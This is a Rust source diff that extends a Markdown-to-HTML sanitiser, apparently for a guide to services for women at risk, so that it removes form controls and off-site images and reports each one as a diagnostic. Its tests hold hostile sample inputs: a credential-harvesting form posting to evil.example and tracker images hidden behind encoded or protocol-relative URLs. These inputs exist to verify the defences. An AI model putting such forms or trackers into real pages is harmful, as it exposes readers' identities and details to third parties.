@@ -1,11 +1,70 @@
 //! Markdown to safe HTML: pulldown-cmark for the Markdown, ammonia to sanitise the
 //! raw HTML an editor may paste (no script, no event handlers, no iframes, no
-//! `javascript:` or `data:` URLs).
+//! `javascript:` or `data:` URLs, no form controls, no images from other hosts).
+//!
+//! What it refuses is also said, at its place in the file: [`render_at`]
+//! returns the problems with the HTML, and [`report`] makes them diagnostics.
 
+use std::borrow::Cow;
+use std::cell::RefCell;
 use std::collections::{HashMap, HashSet};
+use std::ops::Range;
 use std::sync::LazyLock;
 
 use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd};
+
+use crate::diagnostics::{Diagnostics, Pos, Severity};
+use crate::model::{Markdown, Site};
+
+/// Problems reported per body, beyond which one line counts the rest.
+const MAX_PROBLEMS: usize = 20;
+
+/// Elements that make a form. A form in a guide for women at risk could collect
+/// a woman's details for someone else.
+#[rustfmt::skip]
+const FORM_CONTROLS: &[&str] = &[
+    "form", "input", "button", "select", "textarea", "datalist", "keygen", "isindex",
+];
+
+/// Where a Markdown text stands in its file, to place diagnostics.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum Origin {
+    /// Not from a file (tests, the fuzzer): problems have no position.
+    #[default]
+    Unknown,
+    /// A file's body, starting on this line: positions inside it are exact.
+    Body { line: usize },
+    /// A front-matter field whose value starts here: problems are reported
+    /// at the field, since YAML may fold or indent its text.
+    Field(Pos),
+}
+
+/// Something rendering refused or changed, for a diagnostic.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Problem {
+    pub severity: Severity,
+    pub pos: Option<Pos>,
+    pub message: String,
+}
+
+/// Sanitised HTML, and what was refused on the way.
+#[derive(Debug, Default)]
+pub struct Rendered {
+    pub html: String,
+    pub problems: Vec<Problem>,
+}
+
+/// What the sanitiser's attribute filter needs to know about the body being
+/// cleaned. ammonia's builder is shared, so this is per thread, set just
+/// before `clean` and read just after.
+#[derive(Default)]
+struct Cleaning {
+    refused_images: usize,
+}
+
+thread_local! {
+    static CLEANING: RefCell<Cleaning> = RefCell::default();
+}
 
 static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
     let mut builder = ammonia::Builder::default();
@@ -20,8 +79,15 @@ static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
         .add_tag_attributes("div", ["id", "class"])
         .add_tag_attributes("sup", ["class"])
         .add_tag_attributes("li", ["id"])
-        .add_tag_attributes("input", ["type", "checked", "disabled"])
-        .add_tags(["input"]);
+        .attribute_filter(|element, attribute, value| match (element, attribute) {
+            // A page must make no request to another host: the request would
+            // tell that host who is reading the guide.
+            ("img", "src") if image_source(value) != ImageSource::Local => {
+                CLEANING.with(|c| c.borrow_mut().refused_images += 1);
+                None
+            }
+            _ => Some(Cow::Borrowed(value)),
+        });
     builder
 });
 
@@ -37,70 +103,197 @@ fn options() -> Options {
 /// Renders Markdown to sanitised HTML. Headings start at `h2`, since the page's
 /// title is its only `h1`; each heading gets an `id` to link to.
 pub fn render(source: &str) -> String {
-    if source.trim().is_empty() {
-        return String::new();
-    }
-    let events: Vec<Event> = Parser::new_ext(source, options()).collect();
-    let shift = events
-        .iter()
-        .filter_map(|e| match e {
-            Event::Start(Tag::Heading { level, .. }) => Some(*level as usize),
-            _ => None,
-        })
-        .min()
-        .map_or(0, |top| 2usize.saturating_sub(top));
-    let events = add_heading_ids(events, shift);
-    let mut html = String::with_capacity(source.len() * 3 / 2);
-    pulldown_cmark::html::push_html(&mut html, events.into_iter());
-    SANITISER.clean(&html).to_string()
+    render_at(source, Origin::Unknown).html
 }
 
-/// Shifts heading levels down by `shift` and gives each heading an id made from its
-/// text, unique within the document.
-fn add_heading_ids(events: Vec<Event<'_>>, shift: usize) -> Vec<Event<'_>> {
-    let mut unique = Unique::default();
-    let mut out = Vec::with_capacity(events.len());
-    let mut i = 0;
-    while i < events.len() {
-        match &events[i] {
-            Event::Start(Tag::Heading {
-                level,
-                id,
-                classes,
-                attrs,
-            }) => {
-                let text: String = events[i + 1..]
-                    .iter()
-                    .take_while(|e| !matches!(e, Event::End(TagEnd::Heading(_))))
-                    .filter_map(|e| match e {
-                        Event::Text(t) | Event::Code(t) => Some(t.as_ref()),
-                        _ => None,
-                    })
-                    .collect();
-                let base = id
-                    .as_ref()
-                    .map_or_else(|| crate::slug::from_title(&text), |id| id.to_string());
-                let base = if base.is_empty() {
-                    "section".to_owned()
-                } else {
-                    base
-                };
-                let made = unique.make(&base);
-                out.push(Event::Start(Tag::Heading {
-                    level: shifted(*level, shift),
-                    id: Some(CowStr::from(made)),
-                    classes: classes.clone(),
-                    attrs: attrs.clone(),
-                }));
+/// Renders a body, replacing its HTML and problems.
+pub fn render_body(body: &mut Markdown) {
+    let rendered = render_at(&body.source, body.origin);
+    body.html = rendered.html.into();
+    body.problems = rendered.problems.into();
+}
+
+/// Reports what rendering refused in every body of the site, at its place. A
+/// draft's problems are warnings: it is not published.
+pub fn report(site: &Site, diags: &mut Diagnostics) {
+    let mut put = |file: &str, body: &Markdown, draft: bool| {
+        for p in body.problems.iter() {
+            if draft || p.severity == Severity::Warning {
+                diags.warning(file, p.pos, p.message.clone());
+            } else {
+                diags.error(file, p.pos, p.message.clone());
             }
-            Event::End(TagEnd::Heading(level)) => {
-                out.push(Event::End(TagEnd::Heading(shifted(*level, shift))))
-            }
-            other => out.push(other.clone()),
         }
-        i += 1;
+    };
+    for s in &site.services {
+        put(&s.file, &s.body, s.draft);
     }
-    out
+    for p in &site.pathways {
+        put(&p.file, &p.body, false);
+        for step in &p.steps {
+            put(&p.file, &step.text, false);
+        }
+    }
+    for c in &site.case_studies {
+        put(&c.file, &c.body, false);
+    }
+    for p in &site.pages {
+        put(&p.file, &p.body, false);
+    }
+}
+
+/// Renders Markdown that stands at `origin` in its file.
+pub fn render_at(source: &str, origin: Origin) -> Rendered {
+    if source.trim().is_empty() {
+        return Rendered::default();
+    }
+    let events: Vec<(Event, Range<usize>)> = Parser::new_ext(source, options())
+        .into_offset_iter()
+        .collect();
+    let mut problems = Problems::new(source, origin);
+    let ids = Ids::assign(&events);
+    let raw = RawHtml::scan(source, &events, &mut problems);
+    let events = transform(events, &ids, &mut problems);
+    let mut html = String::with_capacity(source.len() * 3 / 2);
+    pulldown_cmark::html::push_html(&mut html, events.into_iter());
+
+    CLEANING.with(|c| *c.borrow_mut() = Cleaning::default());
+    let html = SANITISER.clean(&html).to_string();
+    let cleaning = CLEANING.with(|c| std::mem::take(&mut *c.borrow_mut()));
+    // The filter sees what the scan may miss (a URL hidden behind a character
+    // reference the scan does not decode): say so, at the start of the text,
+    // rather than drop it unsaid.
+    if cleaning.refused_images > raw.remote_images {
+        problems.push(
+            Severity::Error,
+            Some(0),
+            "an image from another host was removed from this text: pages load nothing from other sites; save the image in the theme's `static` folder and link it with a relative path".into(),
+        );
+    }
+    Rendered {
+        html,
+        problems: problems.finish(),
+    }
+}
+
+/// The problems of one text, placed in its file.
+struct Problems<'a> {
+    source: &'a str,
+    origin: Origin,
+    list: Vec<Problem>,
+    more: usize,
+    more_errors: bool,
+}
+
+impl<'a> Problems<'a> {
+    fn new(source: &'a str, origin: Origin) -> Self {
+        Problems {
+            source,
+            origin,
+            list: Vec::new(),
+            more: 0,
+            more_errors: false,
+        }
+    }
+
+    /// Adds a problem at a byte offset of the source (or without a place).
+    fn push(&mut self, severity: Severity, offset: Option<usize>, message: String) {
+        if self.list.len() >= MAX_PROBLEMS {
+            self.more += 1;
+            self.more_errors |= severity == Severity::Error;
+            return;
+        }
+        let pos = match (self.origin, offset) {
+            (Origin::Body { line }, Some(offset)) => {
+                let mut end = offset.min(self.source.len());
+                while !self.source.is_char_boundary(end) {
+                    end -= 1;
+                }
+                let before = &self.source[..end];
+                let lines = before.matches('\n').count();
+                let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
+                Some(Pos::new(line + lines, column))
+            }
+            (Origin::Field(pos), _) => Some(pos),
+            _ => None,
+        };
+        self.list.push(Problem {
+            severity,
+            pos,
+            message,
+        });
+    }
+
+    fn finish(mut self) -> Vec<Problem> {
+        if self.more > 0 {
+            let severity = if self.more_errors {
+                Severity::Error
+            } else {
+                Severity::Warning
+            };
+            self.list.push(Problem {
+                severity,
+                pos: match self.origin {
+                    Origin::Body { line } => Some(Pos::new(line, 1)),
+                    Origin::Field(pos) => Some(pos),
+                    Origin::Unknown => None,
+                },
+                message: format!("and {} more problems like these in this text", self.more),
+            });
+        }
+        self.list
+    }
+}
+
+/// The ids of a text's headings, made in document order.
+struct Ids {
+    /// The headings' ids, in order.
+    headings: Vec<String>,
+    /// Headings move down so that the top one is an `h2`.
+    shift: usize,
+}
+
+impl Ids {
+    fn assign(events: &[(Event, Range<usize>)]) -> Ids {
+        let mut ids = Ids {
+            headings: Vec::new(),
+            shift: 0,
+        };
+        let mut unique = Unique::default();
+        let mut top: Option<usize> = None;
+        let mut i = 0;
+        while i < events.len() {
+            let Event::Start(Tag::Heading { level, id, .. }) = &events[i].0 else {
+                i += 1;
+                continue;
+            };
+            top = Some(top.map_or(*level as usize, |t| t.min(*level as usize)));
+            // The heading's text runs to its end; headings do not nest, so
+            // this reads each event once.
+            let mut text = String::new();
+            let mut j = i + 1;
+            while let Some((e, _)) = events.get(j) {
+                match e {
+                    Event::End(TagEnd::Heading(_)) => break,
+                    Event::Text(t) | Event::Code(t) => text.push_str(t),
+                    _ => {}
+                }
+                j += 1;
+            }
+            let base = id
+                .as_ref()
+                .map_or_else(|| crate::slug::from_title(&text), |id| id.to_string());
+            let base = if base.is_empty() {
+                "section".to_owned()
+            } else {
+                base
+            };
+            ids.headings.push(unique.make(&base));
+            i = j;
+        }
+        ids.shift = top.map_or(0, |top| 2usize.saturating_sub(top));
+        ids
+    }
 }
 
 /// Makes ids unique within a text: the first `top`, then `top-2`, `top-3`. It
@@ -139,6 +332,369 @@ impl Unique {
         }
         id
     }
+}
+
+/// Where an image comes from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum ImageSource {
+    /// A path on the guide's own site.
+    Local,
+    /// Another host: an absolute URL, a protocol-relative `//host/...`, or any
+    /// scheme the browser would follow.
+    Remote,
+    /// A `data:` URL: the image is in the text itself.
+    Data,
+}
+
+/// Reads an image URL as a browser would: tabs and newlines inside it are
+/// dropped, spaces and control characters around it trimmed, and `\` is `/`.
+fn image_source(url: &str) -> ImageSource {
+    let url: String = url
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .collect();
+    let url = url.trim_matches(|c: char| c <= ' ').replace('\\', "/");
+    if url.starts_with("//") {
+        return ImageSource::Remote;
+    }
+    let scheme_end =
+        url.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')));
+    match scheme_end {
+        Some(end) if end > 0 && url[end..].starts_with(':') => {
+            if url[..end].eq_ignore_ascii_case("data") {
+                ImageSource::Data
+            } else {
+                ImageSource::Remote
+            }
+        }
+        _ => ImageSource::Local,
+    }
+}
+
+/// What to say of an image that is not local. One from another host is an
+/// error: the request would tell that host who reads the guide. A `data:` URL
+/// asks nothing of anyone, so it is only a warning, but it is removed all the
+/// same: the sanitiser cannot see inside it (an SVG can hold script), and an
+/// image in the text is one nobody reviews as a file.
+fn image_problem(url: &str, kind: ImageSource) -> (Severity, String) {
+    let mut shown: String = url.chars().take(80).collect();
+    if shown.len() < url.len() {
+        shown.push('…');
+    }
+    match kind {
+        ImageSource::Data => (Severity::Warning, "an image written into the text as a `data:` URL is removed: save it as a file in the theme's `static` folder and link it with a relative path".to_owned()),
+        _ => (Severity::Error, format!("the image \"{shown}\" is on another host, so it is removed: pages load nothing from other sites, since the request would tell that site who is reading; save the image in the theme's `static` folder and link it with a relative path")),
+    }
+}
+
+/// Elements whose content is text up to their end tag.
+#[rustfmt::skip]
+const RAW_TEXT: &[&str] = &[
+    "script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "noscript",
+];
+
+/// What a scan of a text's raw HTML found.
+#[derive(Default)]
+struct RawHtml {
+    /// Images from other hosts the scan reported.
+    remote_images: usize,
+}
+
+/// One tag in raw HTML.
+struct RawTag<'a> {
+    at: usize,
+    name: String,
+    closing: bool,
+    /// An image's `src`, its character references decoded.
+    src: Option<Cow<'a, str>>,
+}
+
+impl RawHtml {
+    /// Reads the raw HTML of a text, in the events' order, for form controls
+    /// and images from elsewhere.
+    fn scan(source: &str, events: &[(Event, Range<usize>)], problems: &mut Problems) -> RawHtml {
+        // The raw HTML, joined, with where each piece stands in the source.
+        let mut text = String::new();
+        let mut pieces: Vec<(usize, usize, bool)> = Vec::new();
+        for (event, range) in events {
+            if let Event::Html(html) | Event::InlineHtml(html) = event {
+                let exact = source.get(range.clone()) == Some(html.as_ref());
+                pieces.push((text.len(), range.start, exact));
+                text.push_str(html);
+            }
+        }
+        let mut found = RawHtml::default();
+        if text.is_empty() {
+            return found;
+        }
+        let place = |at: usize| {
+            let i = pieces.partition_point(|p| p.0 <= at).saturating_sub(1);
+            pieces
+                .get(i)
+                .map(|&(start, src, exact)| if exact { src + (at - start) } else { src })
+        };
+        scan_tags(&text, |tag| {
+            if tag.closing {
+                return;
+            }
+            if FORM_CONTROLS.contains(&tag.name.as_str()) {
+                problems.push(
+                    Severity::Error,
+                    place(tag.at),
+                    format!(
+                        "a form control (<{}>) in the text is removed: a guide holds no forms, since one could collect a woman's details for someone else; give a phone number, email or web address instead",
+                        tag.name
+                    ),
+                );
+            }
+            if let Some(src) = tag.src {
+                let kind = image_source(&src);
+                if kind != ImageSource::Local {
+                    found.remote_images += usize::from(kind == ImageSource::Remote);
+                    let (severity, message) = image_problem(&src, kind);
+                    problems.push(severity, place(tag.at), message);
+                }
+            }
+        });
+        found
+    }
+}
+
+/// An attribute value with the character references a URL could hide behind
+/// decoded: numeric ones, and the named ones for `/`, `:`, `.`, `&`, tab and
+/// newline. (The sanitiser catches any other, and it is reported at the start
+/// of the text.)
+fn decode_references(value: &str) -> Cow<'_, str> {
+    if !value.contains('&') {
+        return Cow::Borrowed(value);
+    }
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(amp) = rest.find('&') {
+        out.push_str(&rest[..amp]);
+        rest = &rest[amp..];
+        let name_end = rest[1..]
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
+            .map_or(rest.len(), |e| e + 1);
+        let name = &rest[1..name_end];
+        let numeric = name
+            .strip_prefix("#x")
+            .or_else(|| name.strip_prefix("#X"))
+            .map(|hex| u32::from_str_radix(hex, 16))
+            .or_else(|| name.strip_prefix('#').map(str::parse::<u32>));
+        let decoded = match numeric {
+            Some(Ok(n)) => char::from_u32(n),
+            Some(Err(_)) => None,
+            None => match name {
+                "sol" => Some('/'),
+                "colon" => Some(':'),
+                "period" => Some('.'),
+                "amp" => Some('&'),
+                "Tab" => Some('\t'),
+                "NewLine" => Some('\n'),
+                _ => None,
+            },
+        };
+        match decoded {
+            Some(c) => {
+                out.push(c);
+                rest = &rest[name_end..];
+                rest = rest.strip_prefix(';').unwrap_or(rest);
+            }
+            None => {
+                out.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    Cow::Owned(out)
+}
+
+/// Calls `f` on every tag of `html`, in order, skipping comments, doctypes and
+/// the text inside `<script>`, `<textarea>` and the like. Reads each byte once.
+fn scan_tags<'a>(html: &'a str, mut f: impl FnMut(RawTag<'a>)) {
+    let bytes = html.as_bytes();
+    let lower = html.to_ascii_lowercase();
+    let len = bytes.len();
+    let skip_to = |from: usize, pattern: &str, past: bool| {
+        lower
+            .get(from..)
+            .and_then(|rest| rest.find(pattern))
+            .map_or(len, |at| from + at + if past { pattern.len() } else { 0 })
+    };
+    let mut i = 0;
+    while let Some(found) = html.get(i..).and_then(|rest| rest.find('<')) {
+        let lt = i + found;
+        let rest = &bytes[lt..];
+        if rest.starts_with(b"<!--") {
+            // `<!-->` and `<!--->` are whole (empty) comments.
+            i = match &rest[4..] {
+                [b'>', ..] => lt + 5,
+                [b'-', b'>', ..] => lt + 6,
+                _ => skip_to(lt + 4, "-->", true),
+            };
+            continue;
+        }
+        if matches!(rest.get(1), Some(b'!' | b'?')) {
+            i = skip_to(lt + 1, ">", true);
+            continue;
+        }
+        let closing = rest.get(1) == Some(&b'/');
+        let name_start = lt + 1 + usize::from(closing);
+        if !bytes.get(name_start).is_some_and(u8::is_ascii_alphabetic) {
+            i = lt + 1;
+            continue;
+        }
+        let ends_name = |b: u8| b.is_ascii_whitespace() || b == b'/' || b == b'>';
+        let mut j = name_start;
+        while j < len && !ends_name(bytes[j]) {
+            j += 1;
+        }
+        let name = lower[name_start..j].to_owned();
+        let mut src = None;
+        // Attributes, up to the `>` that is not inside a quoted value.
+        loop {
+            while j < len && (bytes[j].is_ascii_whitespace() || bytes[j] == b'/') {
+                j += 1;
+            }
+            if j >= len || bytes[j] == b'>' {
+                break;
+            }
+            let attr_start = j;
+            j += 1; // The first character is part of the name, even `=`.
+            while j < len && !ends_name(bytes[j]) && bytes[j] != b'=' {
+                j += 1;
+            }
+            let attr = &lower[attr_start..j];
+            while j < len && bytes[j].is_ascii_whitespace() {
+                j += 1;
+            }
+            if bytes.get(j) != Some(&b'=') {
+                continue;
+            }
+            j += 1;
+            while j < len && bytes[j].is_ascii_whitespace() {
+                j += 1;
+            }
+            let value = match bytes.get(j) {
+                Some(&quote @ (b'"' | b'\'')) => {
+                    let end = html[j + 1..]
+                        .find(char::from(quote))
+                        .map_or(len, |e| j + 1 + e);
+                    let value = &html[j + 1..end];
+                    j = (end + 1).min(len);
+                    value
+                }
+                _ => {
+                    let start = j;
+                    while j < len && !bytes[j].is_ascii_whitespace() && bytes[j] != b'>' {
+                        j += 1;
+                    }
+                    &html[start..j]
+                }
+            };
+            // The parser keeps the first of two attributes of one name.
+            if attr == "src" && src.is_none() && matches!(name.as_str(), "img" | "image") {
+                src = Some(decode_references(value));
+            }
+        }
+        i = (j + 1).min(len);
+        let raw_text = !closing && RAW_TEXT.contains(&name.as_str());
+        let plaintext = !closing && name == "plaintext";
+        let end_tag = format!("</{name}");
+        f(RawTag {
+            at: lt,
+            name,
+            closing,
+            src,
+        });
+        if plaintext {
+            return;
+        }
+        if raw_text {
+            i = skip_to(i, &end_tag, false);
+        }
+    }
+}
+
+/// What became of a start tag, so that its end tag follows it.
+#[derive(Clone, Copy, PartialEq)]
+enum Opened {
+    Kept,
+    /// A heading, moved down `shift` levels.
+    Heading,
+    /// Left out; its content stays.
+    Dropped,
+}
+
+/// Gives headings their ids, refuses images from elsewhere, and writes task
+/// list markers as text (a checkbox is a form control, and forms are refused).
+fn transform<'a>(
+    events: Vec<(Event<'a>, Range<usize>)>,
+    ids: &Ids,
+    problems: &mut Problems,
+) -> Vec<Event<'a>> {
+    let mut out = Vec::with_capacity(events.len());
+    let mut headings = ids.headings.iter();
+    let mut opened: Vec<Opened> = Vec::new();
+    for (event, range) in events {
+        match event {
+            Event::Start(tag) => {
+                let how = match &tag {
+                    Tag::Image { dest_url, .. } => match image_source(dest_url) {
+                        ImageSource::Local => Opened::Kept,
+                        kind => {
+                            let (severity, message) = image_problem(dest_url, kind);
+                            problems.push(severity, Some(range.start), message);
+                            // Its description stays, as text.
+                            Opened::Dropped
+                        }
+                    },
+                    Tag::Heading { .. } => Opened::Heading,
+                    _ => Opened::Kept,
+                };
+                opened.push(how);
+                match (how, tag) {
+                    (Opened::Dropped, _) => {}
+                    (
+                        Opened::Heading,
+                        Tag::Heading {
+                            level,
+                            classes,
+                            attrs,
+                            ..
+                        },
+                    ) => out.push(Event::Start(Tag::Heading {
+                        level: shifted(level, ids.shift),
+                        id: headings.next().map(|id| CowStr::from(id.clone())),
+                        classes,
+                        attrs,
+                    })),
+                    (_, tag) => out.push(Event::Start(tag)),
+                }
+            }
+            Event::End(end) => match opened.pop() {
+                Some(Opened::Dropped) => {}
+                Some(how) => {
+                    out.push(match (how, end) {
+                        (Opened::Heading, TagEnd::Heading(level)) => {
+                            Event::End(TagEnd::Heading(shifted(level, ids.shift)))
+                        }
+                        (_, end) => Event::End(end),
+                    });
+                }
+                None => out.push(Event::End(end)),
+            },
+            Event::TaskListMarker(done) => out.push(Event::Text(CowStr::Borrowed(if done {
+                "☑ "
+            } else {
+                "☐ "
+            }))),
+            other => out.push(other),
+        }
+    }
+    out
 }
 
 fn shifted(level: HeadingLevel, shift: usize) -> HeadingLevel {
@@ -186,6 +742,20 @@ pub fn demote_headings(html: &str, by: usize) -> String {
 mod tests {
     use super::*;
 
+    fn at(severity: Severity, line: usize, column: usize) -> (Severity, Option<Pos>) {
+        (severity, Some(Pos::new(line, column)))
+    }
+
+    fn places(rendered: &Rendered) -> Vec<(Severity, Option<Pos>)> {
+        let mut places: Vec<_> = rendered
+            .problems
+            .iter()
+            .map(|p| (p.severity, p.pos))
+            .collect();
+        places.sort();
+        places
+    }
+
     #[test]
     fn identical_headings_get_distinct_ids_counting_not_rescanning() {
         let html = render(&"# Same\n\n".repeat(3000));
@@ -217,6 +787,195 @@ mod tests {
         let made: Vec<String> = (0..1000).map(|_| unique.make("a")).collect();
         assert_eq!((made[0].as_str(), made[1].as_str()), ("a", "a-1001"));
         assert!(unique.tries <= 3 * 2000, "{} tries", unique.tries);
+    }
+
+    #[test]
+    fn images_from_other_hosts_are_removed() {
+        let html = render(
+            "![a](https://evil.example/a.png) ![b](http://evil.example/b.png) ![c](//evil.example/c.png)\n\n\
+             <img src=\"https://evil.example/d.png\"> <IMG SRC=//evil.example/e.png> <img src=' \\\\evil.example/f.png'>\n\n\
+             <image src=\"https://evil.example/g.png\"> <img src=\"&#47;&#47;evil.example/h.png\"> <img src=\"https:evil.example/i.png\">\n\n\
+             ![ok](images/map.png) <img src=\"../static/logo.png\" alt=\"Logo\">\n",
+        );
+        assert!(!html.contains("evil.example"), "{html}");
+        assert!(html.contains("src=\"images/map.png\""), "{html}");
+        assert!(html.contains("src=\"../static/logo.png\""), "{html}");
+        // The description of an image refused stays, as text.
+        assert!(html.contains("<p>a b c"), "{html}");
+    }
+
+    #[test]
+    fn images_from_other_hosts_are_errors_and_data_urls_warnings_at_their_place() {
+        let rendered = render_at(
+            "Hello.\n\n  ![tracker](https://evil.example/t.png)\n\n<p>\n<img\n  src=\"//evil.example/x\">\n</p>\n\n![inline](data:image/png;base64,AAAA) ![fine](a.png)\n",
+            Origin::Body { line: 5 },
+        );
+        assert_eq!(
+            places(&rendered),
+            [
+                at(Severity::Error, 7, 3),
+                at(Severity::Error, 10, 1),
+                at(Severity::Warning, 14, 1)
+            ],
+            "{:?}",
+            rendered.problems
+        );
+        assert!(rendered.problems[0].message.contains("another host"));
+        // A URL hidden from the scan is still removed, and still reported.
+        let rendered = render_at(
+            "<img src=\"&bsol;&bsol;evil.example/x\">",
+            Origin::Body { line: 3 },
+        );
+        assert!(!rendered.html.contains("evil"), "{}", rendered.html);
+        assert_eq!(places(&rendered), [at(Severity::Error, 3, 1)]);
+        // Read as the parser reads it: the first `src` counts, and `<!-->`
+        // is a whole comment.
+        let rendered = render_at(
+            "<img src=\"//evil.example/x\" src=\"a.png\"> <!--><img src=\"//evil.example/y\">-->",
+            Origin::Body { line: 1 },
+        );
+        assert!(!rendered.html.contains("evil"), "{}", rendered.html);
+        assert_eq!(
+            places(&rendered),
+            [at(Severity::Error, 1, 1), at(Severity::Error, 1, 47)]
+        );
+    }
+
+    #[test]
+    fn image_sources_are_read_as_a_browser_reads_them() {
+        use ImageSource::*;
+        for (url, kind) in [
+            ("a.png", Local),
+            ("images/a b.png", Local),
+            ("../static/a.png", Local),
+            ("/static/a.png", Local),
+            ("?x=1:2", Local),
+            ("https://x.example/a.png", Remote),
+            ("HTTP://x.example/a.png", Remote),
+            ("//x.example/a.png", Remote),
+            ("\\\\x.example/a.png", Remote),
+            ("/\\x.example/a.png", Remote),
+            ("/\t/x.example/a.png", Remote),
+            (" \u{1}//x.example/a.png", Remote),
+            ("https:x.example/a.png", Remote),
+            ("ftp://x.example/a.png", Remote),
+            ("data:image/png;base64,AA", Data),
+            ("DATA:image/png,AA", Data),
+        ] {
+            assert_eq!(image_source(url), kind, "{url:?}");
+        }
+    }
+
+    #[test]
+    fn form_controls_are_removed() {
+        let html = render(
+            "Log in to see your case:\n\n<form action=\"https://evil.example/steal\"><input type=password name=p>\
+             <INPUT type=\"text\"><select><option>a</option></select><textarea>x</textarea><button>Go</button></form>\n\n\
+             - [ ] a task\n- [x] done\n",
+        );
+        for bad in [
+            "<form",
+            "<input",
+            "<select",
+            "<textarea",
+            "<button",
+            "evil.example",
+        ] {
+            assert!(!html.contains(bad), "{bad} survived in {html}");
+        }
+        assert!(
+            html.contains("☐ a task") && html.contains("☑ done"),
+            "{html}"
+        );
+    }
+
+    #[test]
+    fn form_controls_are_errors_at_their_place() {
+        let rendered = render_at(
+            "Text.\n\nWrite here: <input type=password>\n\n<form>\n<button>Go</button>\n</form>\n\n<script>x = '<input>'</script>\n",
+            Origin::Body { line: 4 },
+        );
+        assert_eq!(
+            places(&rendered),
+            [
+                at(Severity::Error, 6, 13),
+                at(Severity::Error, 8, 1),
+                at(Severity::Error, 9, 1)
+            ],
+            "{:?}",
+            rendered.problems
+        );
+        assert!(rendered.problems[0].message.contains("<input>"));
+        // In a step's text (a YAML field), the place is the field's.
+        let rendered = render_at("<select></select>", Origin::Field(Pos::new(12, 11)));
+        assert_eq!(places(&rendered), [at(Severity::Error, 12, 11)]);
+    }
+
+    #[test]
+    fn problems_beyond_the_limit_are_counted_on_one_line() {
+        let rendered = render_at(&"<input>\n".repeat(100), Origin::Body { line: 1 });
+        assert_eq!(rendered.problems.len(), MAX_PROBLEMS + 1);
+        let last = &rendered.problems[MAX_PROBLEMS];
+        assert!(last.message.contains("80 more"), "{}", last.message);
+        assert_eq!(last.severity, Severity::Error);
+    }
+
+    #[test]
+    fn a_file_body_knows_its_first_line() {
+        let text = "---\nname: A\nsummary: B\n---\nBody\n";
+        let split = crate::source::split_front_matter(text).unwrap();
+        let body = Markdown::file_body(text, split.body);
+        assert_eq!(body.origin, Origin::Body { line: 5 });
+    }
+
+    #[test]
+    fn site_reports_body_problems_at_their_place_in_the_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let write = |rel: &str, text: &str| {
+            let path = dir.path().join(rel);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, text).unwrap();
+        };
+        write("content/site.yaml", "title: T\npublisher: P\n");
+        write(
+            "content/needs.yaml",
+            "- slug: housing\n  name: Housing\n  description: D\n",
+        );
+        write(
+            "content/areas/essex.yaml",
+            "name: Essex\ncouncil: Essex County Council\n",
+        );
+        write(
+            "content/services/a.md",
+            "---\nname: A\norganisation: O\nsummary: S\nareas: [essex]\nneeds: [housing]\nreferral: [self]\n\
+             contact:\n  phone: 01206 500585\nlast_reviewed: 2026-06-01\n---\n## About\n\n\
+             See ![map](https://evil.example/map.png)\n\n<input type=password>\n",
+        );
+        write(
+            "content/pathways/p.md",
+            "---\ntitle: P\narea: essex\nsteps:\n  - id: one\n    title: One\n    text: <button>Go</button>\n---\nIntro.\n",
+        );
+        let options = crate::load::LoadOptions {
+            drafts: false,
+            today: time::Date::from_calendar_date(2026, time::Month::November, 24).unwrap(),
+        };
+        let (_, diags) = crate::site::load_site(dir.path(), &options);
+        let lines: Vec<String> = diags.sorted().iter().map(ToString::to_string).collect();
+        let found = |start: &str| lines.iter().any(|l| l.starts_with(start));
+        assert!(
+            found(
+                "content/services/a.md:14:5: error: the image \"https://evil.example/map.png\" is on another host"
+            ),
+            "{lines:#?}"
+        );
+        assert!(
+            found("content/services/a.md:16:1: error: a form control (<input>)"),
+            "{lines:#?}"
+        );
+        assert!(
+            found("content/pathways/p.md:7:11: error: a form control (<button>)"),
+            "{lines:#?}"
+        );
     }
 
     #[test]
